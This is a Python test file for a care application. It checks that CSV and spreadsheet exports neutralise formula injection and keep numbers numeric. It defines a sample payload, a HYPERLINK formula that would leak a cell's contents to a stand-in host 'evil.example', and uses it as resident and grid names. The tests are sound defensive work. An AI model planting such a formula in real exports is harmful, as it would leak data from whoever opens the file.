"""Spreadsheet and CSV exports neutralise text that a spreadsheet would run as a formula (= + - @, tab, CR): it gets a
leading ' (OWASP's advice), while numbers, negative ones too, stay numbers. Every export goes through
careapp/core/exports.py, which this file checks by scanning the code, then through the real downloads: a resident
named "=HYPERLINK(...)" on a roster CSV and a kitchen CSV, and a grid so named on the coverage CSV and spreadsheet."""
from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from careapp.booking import engine
from careapp.core.db import db, write_transaction
from careapp.core.exports import FORMULA_STARTS, append_rows, csv_response, safe_cell
from careapp.households.models import CareRecipient, RecipientKind
from careapp.households.services import add_recipient
from tests.conftest import START
from tests.coverage_factories import build_district
from tests.meals_factories import lunch_orders, meals, menu  # noqa: F401  (fixtures)
from tests.page_helpers import login
from tests.rosters_factories import TOMORROW, scene  # noqa: F401  (a fixture)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PACKAGE = Path(__file__).resolve().parents[1] / "careapp"


def csv_rows(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


# --- the one home of exports ---

@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


def test_the_formula_starts_are_owasps():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_neutralises_text_but_keeps_numbers(app):
    response = csv_response("x.csv", [["-1+2", "@SUM(A1)", "+86 139", "\tx", "李家", "", None],
                                      [-5, 3.5, Decimal("-0.25"), date(2026, 12, 1), 0]])
    assert csv_rows(response) == [["'-1+2", "'@SUM(A1)", "'+86 139", "'\tx", "李家", "", ""],
                                  ["-5", "3.5", "-0.25", "2026-12-01", "0"]]


def test_xlsx_neutralises_text_but_keeps_numbers_as_numbers():
    book = Workbook()
    append_rows(book.active, [[EVIL, "-2", "@x", "ok", None], [-5, -0.5, Decimal("1.25"), 0, None]])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("'" + EVIL, "'-2", "'@x", "ok")
    assert rows[1][:4] == (-5, -0.5, 1.25, 0)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula anywhere


WRITES = re.compile(r"csv\.(writer|DictWriter)\(|\b\w*(sheet|detail)\w*\.append\(|\.cell\([^)]*value=")


def test_every_export_goes_through_core_exports():
    """No module but careapp/core/exports.py writes a CSV or appends rows to a worksheet."""
    found = [f"{path.relative_to(PACKAGE.parent)}:{number}: {line.strip()}"
             for path in sorted(PACKAGE.rglob("*.py")) if path.name != "exports.py" or path.parent.name != "core"
             for number, line in enumerate(path.read_text().splitlines(), start=1) if WRITES.search(line)]
    assert found == []


# --- the downloads ---

def test_a_roster_csv_neutralises_a_residents_name(client, scene):
    slot = scene.slot()
    child = add_recipient(household_id=scene.family.household.id, by=scene.family.user, now=scene.now,
                          kind=RecipientKind.child, name=EVIL, birth_date=TOMORROW.replace(year=2025))
    engine.book(slot.id, child.id, by=scene.family.user, now=scene.now)
    login(client, scene.staff[0])
    response = client.get(f"/partners/points/{scene.point.id}/day.csv?day={TOMORROW.isoformat()}")
    assert response.status_code == 200
    names = [row[3] for row in csv_rows(response) if len(row) > 3]
    assert "'" + EVIL in names and EVIL not in names


def test_a_kitchen_csv_neutralises_a_residents_name_and_keeps_counts(client, meals, menu, clock):  # noqa: F811
    with write_transaction():
        db.session.get(CareRecipient, meals.elder.id).name = EVIL
    orders = lunch_orders(meals, menu, clock.now())
    login(client, orders.world.care_centre.staff)
    rows = csv_rows(client.get(f"/meals/slots/{orders.lunch_slot.id}/kitchen.csv"))
    assert ["'" + EVIL] == [row[0] for row in rows if row and "HYPERLINK" in row[0]]
    assert ["Total meals", "3"] in rows  # a number, not "'3"


def test_the_coverage_csv_and_spreadsheet_neutralise_names(app, client):
    district = build_district(START)
    with write_transaction():
        grid = district.grids["华联网格"]
        db.session.get(type(grid), grid.id).name = EVIL
    login(client, district.staff)
    rows = csv_rows(client.get("/community/coverage/grids.csv"))
    assert "'" + EVIL in [row[1] for row in rows]
    sheet = load_workbook(io.BytesIO(client.get("/community/coverage/grids.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert "'" + EVIL in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, (int, float)) for cell in cells)  # the figures are numbers
